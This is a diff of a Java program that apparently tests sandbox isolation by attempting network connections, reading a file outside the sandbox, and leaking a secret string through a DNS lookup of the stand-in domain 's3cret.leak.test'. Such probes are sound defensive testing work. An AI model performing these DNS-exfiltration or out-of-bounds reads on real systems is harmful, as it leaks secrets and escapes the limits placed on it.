@@ -39,8 +39,8 @@ void main(String[] arguments) throws Exception {
     attempt("lan", () -> connect(service));
     attempt("host-loopback", () -> connect(onLoopback));
     attempt("own-loopback", this::serveMyself);
-    attempt("lookup", () -> InetAddress.getByName("the-secret.leak.test").getHostAddress());
-    attempt("dns-packet", () -> send(service, "the-secret"));
+    attempt("lookup", () -> InetAddress.getByName("s3cret.leak.test").getHostAddress());
+    attempt("dns-packet", () -> send(service, "s3cret"));
 
     attempt("write-inside", () -> write(Path.of("notes.txt")));
     attempt("read-outside", () -> Files.readString(outside.resolve("secret.txt")));
